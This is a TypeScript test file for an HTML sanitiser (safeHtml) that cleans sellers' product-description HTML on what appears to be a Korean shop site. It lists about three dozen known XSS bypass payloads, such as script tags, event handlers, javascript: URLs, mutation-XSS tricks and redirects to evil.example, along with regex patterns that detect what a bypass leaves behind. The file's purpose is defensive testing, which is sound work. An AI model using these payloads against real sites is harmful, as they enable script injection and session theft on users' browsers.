import { describe, expect, test } from 'vitest'
import { safeHtml } from '@/server/http/safe-html'
import { silentLog } from '@/server/observability/log'

/** Known sanitiser bypasses. None may leave anything that runs, covers the page or redirects. */
const EVASIONS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" onload="alert(1)">',
  '<img/src="https://a.example/x"/onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="pin"><button formaction="javascript:alert(1)">보내기</button></form>',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">글</p>',
  '<p class="dialog" id="content" onclick="alert(1)">글</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>글</details>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
]

const ALLOWED_TAGS =
  /<\/?(?!(?:p|br|hr|strong|b|em|i|u|s|small|sub|sup|mark|blockquote|h[234]|div|section|figure|figcaption|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|th|td|img|a)\b)[a-z!]/i
const DANGERS = [
  ALLOWED_TAGS,
  /<[^>]*\son\w+\s*=/i,
  /<[^>]*\s(?:style|class|id|srcdoc|formaction|action)\s*=/i,
  /<[^>]*\s(?:href|src)="\s*(?!https?:\/\/|\/(?![/\\])|mailto:|tel:|#|[\w%])/i,
  /<[^>]*\s(?:href|src)="[^"]*(?:javascript|vbscript|data):/i,
]

describe('sellers’ HTML', () => {
  test.each(EVASIONS)('contains nothing dangerous after sanitising: %s', (html) => {
    const clean = safeHtml(`<p>앞</p>${html}<p>뒤</p>`)
    for (const danger of DANGERS) expect(clean).not.toMatch(danger)
    expect(clean).toContain('앞')
  })
  test('finds the dangerous parts of each sample', () => {
    for (const bad of [
      '<script>',
      '<p onclick=x>',
      '<p style="">',
      '<a href="//e">',
      '<a href="javascript:1">',
    ])
      expect(DANGERS.some((danger) => danger.test(bad))).toBe(true)
  })
  test('closes open elements, so that the rest remains', () => {
    expect(safeHtml('<math><mtext><table><svg><p>끝</p>')).toContain('끝')
  })
  test('is idempotent', () => {
    for (const html of EVASIONS) expect(safeHtml(safeHtml(html))).toBe(safeHtml(html))
  })
  test('keeps text, lists, tables and links', () => {
    const html =
      '<h2>이름</h2><p><strong>굵게</strong></p><ul><li>하나</li></ul><table><tr><th scope="row">크기</th><td colspan="2">1</td></tr></table>'
    expect(safeHtml(html)).toBe(html)
    expect(safeHtml('<a href="/shopping">가게</a>')).toBe('<a href="/shopping">가게</a>')
  })
  test('lowers headings, so that the page keeps a single h1', () =>
    expect(safeHtml('<h1>큰 글</h1>')).toBe('<h2>큰 글</h2>'))
  test('opens links to other sites in a new tab', () => {
    expect(safeHtml('<a href="https://a.example/" target="_self">밖</a>')).toBe(
      '<a href="https://a.example/" target="_blank" rel="noopener noreferrer nofollow">밖</a>',
    )
  })
  test('loads our own pictures lazily in the displayed width', () => {
    const clean = safeHtml('<img src="/api/media/product/mug-0-1" alt="머그">')
    expect(clean).toContain('src="/api/media/product/mug-0-1?w=780')
    expect(clean).toMatch(/srcset="[^"]*mug-0-1\?w=390[^"]* 390w/)
    expect(clean).toContain('loading="lazy"')
    expect(clean).toContain('alt="머그"')
  })

  test.each([
    'https://a.example/x.png',
    'https://dama.example.evil.example/api/media/x',
    '/api/auth/sign-out',
    '/api/media/../auth/sign-out',
    '/api/media/%2e%2e/auth/sign-out',
    '/shopping',
  ])('a picture from %s is removed', (src) => {
    expect(safeHtml(`<p>글<img src="${src}"></p>`)).toBe('<p>글</p>')
  })

  test('truncates HTML of 5 MB after a complete element, with a note', () => {
    const part = '<p>달항아리 <strong>머그</strong></p>'
    const clean = safeHtml(part.repeat(Math.ceil(5_000_000 / part.length)))
    expect(clean.length).toBeLessThan(201_000)
    expect(clean).toMatch(/^(<p>달항아리 <strong>머그<\/strong><\/p>)+(<p>달항아리 .*)?<p>내용이 길어서/)
    expect(safeHtml(clean).length).toBeLessThan(201_000)
    // A single unclosed tag leaves no text.
    expect(safeHtml(`<p>처음</p><p title="${'가'.repeat(5_000_000)}`)).toMatch(
      /^<p>처음<\/p><p>내용이 길어서/,
    )
    expect(safeHtml('<div>'.repeat(1_000_000)).length).toBeLessThan(2000)
  })

  test('keeps the first tags of a text with too many, however they are nested', () => {
    const clean = safeHtml('<p>가</p>'.repeat(10_001))
    expect(clean.match(/<p>가<\/p>/g)).toHaveLength(10_000)
    expect(clean).toMatch(/<p>가<\/p><p>내용이 길어서[^<]*<\/p>$/)
    expect(safeHtml('<p>가</p>'.repeat(10_000))).not.toContain('내용이 길어서')

    const nested = `${'<div>'.repeat(9_999)}<p>안쪽</p><p>넘침</p>`
    expect(safeHtml(nested)).toContain('안쪽')
    expect(safeHtml(nested)).not.toContain('넘침')
    expect(safeHtml(nested)).toContain('내용이 길어서')
  })
})

test('returns the same result for the same text, and another for another text', () => {
  const clean = safeHtml('<p onclick="x()">가</p>')
  expect(safeHtml('<p onclick="x()">가</p>')).toBe(clean)
  expect(clean).toBe('<p>가</p>')
  expect(safeHtml('<p onclick="x()">나</p>')).toBe('<p>나</p>')
})

test.each([
  '<p style="display:none">가</p>',
  '<p hidden>가</p>',
  '<img src="/api/media/product/mug-0-1" alt="가" style="width:1px;display: none">',
  '<img src="https://seller.example/pixel.gif" alt="가" hidden>',
  '<a href="https://seller.example/" style="display:none">가</a>',
  '<iframe src="https://video.example/a" style="display:none"></iframe>',
])('leaves out what the seller hides: %s', (html) => {
  expect(safeHtml(html)).toBe('')
})

const PICTURE = '/api/media/product/mug-0-1'

test.each([
  `<image src="${PICTURE}">뒤`,
  `<svg><image href="${PICTURE}"/></svg>뒤`,
  `<amp-img src="${PICTURE}" layout="fill"></amp-img>뒤`,
  `<div data-bg="${PICTURE}"></div>뒤`,
  `<div data-background-image="url('${PICTURE}')"></div>뒤`,
  `<div data-bgset="${PICTURE} 390w, ${PICTURE} 780w"></div>뒤`,
])('shows the picture of %s', (html) => {
  expect(safeHtml(html)).toMatch(
    /^(?:<div>)?<img src="\/api\/media\/product\/mug-0-1\?[^>]*>(?:<\/div>)?뒤$/u,
  )
})

test.each(['data-bg="dark"', 'data-background="#fff"', 'data-bg="javascript:alert(1)"'])(
  'takes %s for no picture',
  (attribute) => expect(safeHtml(`<div ${attribute}>글</div>`)).toBe('<div>글</div>'),
)

test.each([
  [
    '<figure class="media"><oembed url="https://www.youtube.com/watch?v=abc"></oembed></figure>',
    'youtube.com/watch?v=abc',
    '동영상 보기',
  ],
  [
    '<oembed url="https://www.instagram.com/p/abc/"></oembed>',
    'instagram.com/p/abc/',
    '다른 사이트에서 보기',
  ],
  ['<lite-youtube videoid="abc"></lite-youtube>', 'youtube.com/watch?v=abc', '동영상 보기'],
  ['<amp-youtube data-videoid="abc"></amp-youtube>', 'youtube.com/watch?v=abc', '동영상 보기'],
  ['<lite-vimeo videoid="123"></lite-vimeo>', 'vimeo.com/123', '동영상 보기'],
])('leaves a link of %s', (html, address, text) => {
  const link = /<a href="https:\/\/(?:www\.)?([^"]*)"[^>]*>([^<]*)<\/a>/u.exec(safeHtml(html))
  expect(link?.slice(1)).toEqual([address, text])
})

test('names the link of a picture that is not shown, and leaves out links without content', () => {
  const link = (content: string) => safeHtml(`<a href="/card-shop">${content}</a>끝`, () => undefined)
  expect(link('<img src="https://seller.example/a.jpg" alt=""> ')).toBe(
    '<a href="/card-shop">자세히 보기</a>끝',
  )
  expect(link('<img src="https://seller.example/a.jpg" alt="배너">')).toContain('배너')
  expect(link('<img src="https://seller.example/a.jpg"> 글')).toBe('<a href="/card-shop"> 글</a>끝')
  expect(link(' ')).toBe('끝')
  expect(link('<img src="https://seller.example/a.jpg" hidden>')).toBe('끝')
})

test('marks each link to a video, which the page puts on a line of its own', () => {
  const videos = '<iframe src="//video.example/a"></iframe><video src="https://video.example/b"></video>'
  expect(safeHtml(videos).match(/<a href="https:\/\/video\.example\/[ab]"[^>]* data-video/gu)).toHaveLength(2)
})

test.each([
  // Two prices, of which one is the old one.
  ['<strike>9,000원</strike> <del>8,000원</del> 7,000원', '<s>9,000원</s> <s>8,000원</s> 7,000원'],
  ['<span style="text-decoration: line-through">9,000원</span>', '<s>9,000원</s>'],
  ['<span style="font-size:14pt;font-weight:700">소재</span>', '<strong>소재</strong>'],
  // Google Docs puts the whole text into such an element.
  ['<b style="font-weight:normal" id="docs-internal-guid"><p>글</p></b><i>끝</i>', '<p>글</p><i>끝</i>'],
  ['<strong style="display:block">소재</strong>면', '<strong data-block>소재</strong>면'],
  [
    '<em style="float:left">소재</em><span style="float:right">면</span>',
    '<em data-block>소재</em><div>면</div>',
  ],
  ['<a href="/card-shop" style="display:block">선물</a>', '<a href="/card-shop" data-block>선물</a>'],
  [
    '<div style="display:flex"><span>소재</span><b>면</b></div>',
    '<div><div>소재</div><b data-block>면</b></div>',
  ],
  ['<p>가<center>나<p>다</center>라', '<p>가</p><div data-align="center">나<p>다</p></div>라'],
  ['<marquee>세일</marquee>오늘', '<div>세일</div>오늘'],
  ['<ol start="3"><li value="5">다섯</li></ol>', '<ol start="3"><li value="5">다섯</li></ol>'],
  ['<center>가</center>', '<div data-align="center">가</div>'],
  ['<p align=CENTER>가</p><td align="evil">', '<p data-align="center">가</p><td></td>'],
  ['<span style="visibility:hidden">숨김</span>글', '글'],
])('keeps what the style of %s means', (html, clean) => expect(safeHtml(html)).toBe(clean))

test.each([
  ['소재: 면\r\n크기: 10cm\n\n세탁: 찬물', '소재: 면<br />크기: 10cm<br /><br />세탁: 찬물'],
  [
    '<div style="white-space:pre-wrap">첫 줄\n둘째 줄</div>\n<p>끝\n문장</p>',
    '<div>첫 줄<br />둘째 줄</div>\n<p>끝\n문장</p>',
  ],
  ['<pre style="white-space:pre-line">가\n나</pre>', '<pre>가\n나</pre>'],
])('keeps the lines of %j', (html, clean) => expect(safeHtml(html)).toBe(clean))

test('shortens walls of empty lines and of spaces', () => {
  expect(safeHtml(`<p>가</p>${'<p>&nbsp;</p>\n'.repeat(60)}<p>나</p>`).match(/<p>/gu)).toHaveLength(5)
  expect(safeHtml(`가${'<br>'.repeat(80)}나`)).toBe('가<br /><br /><br />나')
  expect(safeHtml(`<p>소재${'&nbsp;'.repeat(300)}면</p>`)).toBe('<p>소재\u00a0\u00a0\u00a0 면</p>')
  // A space between words breaks lines, one before a unit does not.
  expect(safeHtml('<p>아주&nbsp;긴&nbsp;문장 500&nbsp;ml</p>')).toBe('<p>아주 긴 문장 500\u00a0ml</p>')
})

test.each([
  ['<a href="www.naver.com">밖</a>', 'href="https://www.naver.com"'],
  ['<a href="//smartstore.naver.com/a">밖</a>', 'href="https://smartstore.naver.com/a"'],
  ['<area href="https://shop.example/a" alt="쿠폰 받기">', '>쿠폰 받기</a>'],
])('a link leads where it did: %s', (html, part) => expect(safeHtml(html)).toContain(part))

test.each([
  '/product/detail.html?product_no=1',
  'detail.html',
  '#none',
  'javascript:;',
  'kakaotalk://a',
  '/\\evil.example',
])('a link to %s, which only the seller’s site has, is text', (href) =>
  expect(safeHtml(`<a href="${href}">글</a><p>끝</p>`)).toBe('글<p>끝</p>'),
)

test.each([
  [
    '<iframe src="https://www.youtube-nocookie.com/embed/a_-1?rel=0"></iframe>',
    'https://www.youtube.com/watch?v=a_-1',
    '동영상 보기',
  ],
  [
    '<iframe src="//player.vimeo.com/video/12?h=ab3&x=1"></iframe>',
    'https://vimeo.com/12/ab3',
    '동영상 보기',
  ],
  [
    '<iframe src="https://map.naver.com/p/1" title="오시는 길"></iframe>',
    'https://map.naver.com/p/1',
    '오시는 길',
  ],
  ['<iframe src="https://map.naver.com/p/1"></iframe>', 'https://map.naver.com/p/1', '다른 사이트에서 보기'],
  ['<audio src="https://a.example/a.mp3"></audio>', 'https://a.example/a.mp3', '소리 듣기'],
  [
    '<object><param name="movie" value="https://www.youtube.com/v/ab"></object>',
    'https://www.youtube.com/watch?v=ab',
    '동영상 보기',
  ],
  [
    '<object><param name="movie" value="https://a.example/a"><embed src="https://a.example/a"></object>',
    'https://a.example/a',
    '동영상 보기',
  ],
  [
    '<video><source src="https://a.example/a.webm"><source src="https://a.example/a.mp4">볼 수 없어요</video>',
    'https://a.example/a.webm',
    '동영상 보기',
  ],
])('%s leaves one link that says where it leads', (html, href, text) =>
  expect(safeHtml(html)).toBe(
    `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow" data-video>${text}</a>`,
  ),
)

const OWN = '/api/media/product/mug-0-1'
test.each([
  `<img class="lazy" src="data:image/gif;base64,R0lGOD" alt="머그"><noscript><img src="${OWN}" alt="머그"></noscript>`,
  `<picture><source data-srcset="${OWN}"><img src="data:image/gif;base64,R0lGOD" alt="머그"></picture>`,
  `<img srcset="/other?x=1,2 300w,${OWN} 600w" alt="머그">`,
  `<input type="image" src="${OWN}" alt="머그">`,
  `<img src="${OWN}" title="머그">`,
])('shows the one picture of %s', (html) => {
  const clean = safeHtml(html, silentLog)
  expect(clean.match(/<(?:img|small)/gu)).toHaveLength(1)
  expect(clean).toContain(`<img src="${OWN}?`)
  expect(clean).toContain('alt="머그"')
})

test.each([
  `<div style="background:#fff url('${OWN}') no-repeat">가</div>`,
  `<td background="${OWN}">가</td>`,
])('shows the picture behind %s above its text', (html) =>
  expect(safeHtml(html)).toMatch(/^<(div|td)><img src="\/api\/media\/product\/mug-0-1\?[^>]*\/>가<\/\1>$/u),
)

test.each([
  // A stray end tag in a cell, which a browser ignores.
  [
    '<div><table><tr><td>가</div>나</td><td>다</td></tr></table></div>끝',
    '<div><table><tr><td>가나</td><td>다</td></tr></table></div>끝',
  ],
  [
    '<font><table><tr><td>가</font></td><td>나</font></td></tr></table></font>끝',
    '<table><tr><td>가</td><td>나</td></tr></table>끝',
  ],
  // The end of a look within a block, which goes on.
  ['<i><div>가</i>나</div>다', '<i><div>가</div></i><div>나</div>다'],
  [
    '<b><center>가</b>나</center>다',
    '<b><div data-align="center">가</div></b><div data-align="center">나</div>다',
  ],
  [
    '<div style="display:table"><span style="display:table-cell">가</span><span style="display:table-cell">나</span></div>',
    '<div><div>가</div><div>나</div></div>',
  ],
])('keeps the structure that a browser gives %s', (html, clean) => expect(safeHtml(html)).toBe(clean))

test('opens no block again for the thousandth time', () => {
  const clean = safeHtml('<b><div>'.repeat(2000) + '</b>'.repeat(2000) + '끝')
  expect(clean.length).toBeLessThan(100_000)
  expect(clean).toContain('끝')
})

test('puts each link on a picture on a line of its own', () => {
  const map = '<map><area href="https://a.example/" alt="가"><area href="https://b.example/" alt="나"></map>'
  expect(safeHtml(map).match(/<a [^>]* data-block>/gu)).toHaveLength(2)
})

const SHEET = `<style type="text/css"><!-- @import url(a.css);
.tit, td.name { DISPLAY: block !important; } /* .x { } */
.detail > .old { text-decoration: line-through }
#top .mid { text-align: center }
.panel { display: none }
.mo { display: none }
@media screen and (max-width: 768px) { .pc { display: none } .mo { display: block } }
@media (min-width: 769px) { .phone { display: none } }
a:hover, .a + .b { display: block }
--></style>`
test.each([
  ['<span class="big tit">가</span><span class="tit">나</span>', '<div>가</div><div>나</div>'],
  [
    '<div class="detail"><em><span class="old">9,000원</span></em></div>',
    '<div><em><s>9,000원</s></em></div>',
  ],
  ['<span class="old">9,000원</span>', '9,000원'],
  ['<div id="top"><p class="mid">가</p></div>', '<div><p data-align="center">가</p></div>'],
  // Only a computer shows the first and hides the others.
  ['<p class="pc">큰</p><p class="mo">작은</p><p class="phone">폰</p>', '<p>작은</p><p>폰</p>'],
  ['<img class="pc" src="/api/media/product/mug-0-1"><p>끝</p>', '<p>끝</p>'],
  // A script would show it at a tap.
  ['<p class="panel">배송 안내</p>', '<p>배송 안내</p>'],
  ['<span class="tit" style="display:inline">가</span>', '가'],
  ['<a class="b" href="/shopping">가</a>', '<a href="/shopping">가</a>'],
])('keeps what a style sheet of the text means for %s', (html, clean) =>
  expect(safeHtml(SHEET + html)).toBe(clean),
)

test.each([
  '<style>',
  '<style>.a{',
  '<style>}}}</style>',
  '<style>@media{.a{display:block}</style>',
  '<style>.a{display}</style>',
  '<style>,{display:block}</style>',
])('reads a text after the broken sheet %s', (sheet) =>
  expect(safeHtml(`<p class="a">앞</p>${sheet}</style><p class="a">뒤</p>`)).toContain('뒤'),
)
